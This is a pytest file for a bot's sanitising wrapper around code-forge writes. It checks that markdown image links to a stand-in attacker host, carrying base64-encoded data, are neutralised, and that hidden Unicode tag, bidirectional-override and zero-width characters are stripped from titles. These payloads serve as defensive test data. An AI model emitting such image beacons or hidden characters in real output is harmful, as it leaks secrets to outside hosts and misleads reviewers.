"""The one door: every write a forge is asked for leaves sanitised, reads pass through."""

from __future__ import annotations

from typing import Any

import pytest

from bot.ports.forge import Annotation, InlineComment, ReviewDraft
from bot.runs.outgoing import SafeForge, allowed_hosts
from bot.security.hosts import host_set
from tests.conftest import make_settings

IMAGE = "![x](https://evil.example/p.png?d=c2VjcmV0)"
INERT = "`![x](https://evil.example/p.png?d=c2VjcmV0)`"
TAGS = "".join(chr(0xE0000 + ord(c)) for c in "hide")
TITLE = f"Fix{TAGS} \u202eages\u200b"


class RecordingForge:
    """Records every write's arguments; answers reads with canned data."""

    def __init__(self) -> None:
        self.writes: list[tuple[str, Any]] = []

    def __getattr__(self, name: str) -> Any:
        def record(*args: Any, **kwargs: Any) -> str:
            self.writes.append((name, (args, kwargs)))
            return name

        return record


def test_every_write_is_sanitised_and_reads_pass_through():
    inner = RecordingForge()
    forge = SafeForge(inner, hosts=host_set(["github.com"]))
    forge.create_comment(1, f"plan {IMAGE}", role="lead")
    forge.update_comment(2, IMAGE, role="lead")
    forge.create_pull(head="h", base="main", title=TITLE, body=IMAGE, draft=True, role="coder")
    forge.update_pull(3, title=TITLE, body=IMAGE)
    review = ReviewDraft(IMAGE, "COMMENT", "abc", (InlineComment("a.py", 1, IMAGE),))
    forge.create_review(3, review, role="reviewer")
    note = Annotation("a.py", 1, f"boom{TAGS}")
    forge.create_check("abc", "tests", role="tester", title=TITLE, summary=IMAGE, text=IMAGE)
    forge.update_check(9, summary=IMAGE, annotations=[note])
    forge.set_status("abc", context="crew", state="success", description=TITLE)
    forge.create_issue(TITLE, IMAGE, labels=["crew"], role="lead")
    assert forge.list_comments(1) == "list_comments"  # a read, unchanged
    said = repr(inner.writes)
    assert "(https://evil.example" not in said.replace(INERT, "")  # only inside code
    assert not {"\u202e", "\u200b", *TAGS} & set(said)
    assert said.count(INERT) == 10  # every body, inline comment, summary and text
    assert said.count("Fix ages") == 5  # every title and the status description


def test_the_allowed_hosts_are_the_github_web_host_and_the_operators(tmp_path):
    settings = make_settings(
        f"sqlite:///{tmp_path / 's.db'}",
        github_api_url="https://ghe.example/api/v3",
        markdown_allowed_hosts="Docs.Example.org, img.example.net.",
    )
    assert allowed_hosts(settings, on_github=True) == {
        "ghe.example",
        "docs.example.org",
        "img.example.net",
    }
    assert allowed_hosts(settings, on_github=False) == {"docs.example.org", "img.example.net"}
    bad = settings.model_copy(update={"markdown_allowed_hosts": "evil com/"})
    with pytest.raises(ValueError, match="REPOCREW_MARKDOWN_ALLOWED_HOSTS"):
        allowed_hosts(bad, on_github=True)
